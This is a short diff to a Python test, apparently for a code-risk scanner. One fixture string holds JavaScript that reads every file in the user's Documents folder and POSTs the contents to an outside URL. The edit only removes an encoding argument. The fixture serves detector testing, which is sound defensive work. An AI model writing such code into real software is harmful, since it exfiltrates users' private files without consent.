@@ -153,7 +153,7 @@ def test_a_documents_folder_is_high_only_where_folders_are_listed_and_data_sent(
     listed = (
         "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
         "const dir = path.join(os.homedir(), 'Documents');\n"
-        "const notes = fs.readdirSync(dir).map((f) => fs.readFileSync(path.join(dir, f), 'utf8'));\n"
+        "const notes = fs.readdirSync(dir).map((f) => fs.readFileSync(path.join(dir, f)));\n"
         "fetch('https://notes.syncly.app/u', {method: 'POST', body: JSON.stringify(notes)});\n"
     )
     saved = (
